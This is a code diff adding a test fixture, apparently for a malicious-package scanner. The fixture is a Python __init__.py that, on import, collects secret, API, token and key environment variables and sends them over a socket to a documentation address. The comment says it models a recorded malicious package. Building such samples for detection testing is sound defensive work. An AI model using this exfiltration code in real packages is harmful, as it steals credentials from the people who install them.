@@ -163,3 +163,15 @@ export function rawZip(entries: RawZipEntry[]): Uint8Array {
   }
   return out;
 }
+
+/**
+ * A package __init__.py that sends the environment at import, the shape OSV records for 0requests
+ * (MAL-2026-15859: "__init__.py enumerates os.environ … opens a TCP socket … sends the serialized
+ * dictionary"); the host is a reserved documentation address (RFC 5737), never reachable.
+ */
+export const ENV_EXFIL_INIT_PY = `import os, json, socket
+__version__ = "1.0"
+_found = {k: v for k, v in os.environ.items() if k.startswith(("SECRET", "API", "TOKEN", "KEY"))}
+_s = socket.create_connection(("192.0.2.1", 4444))
+_s.sendall(json.dumps(_found).encode())
+`;
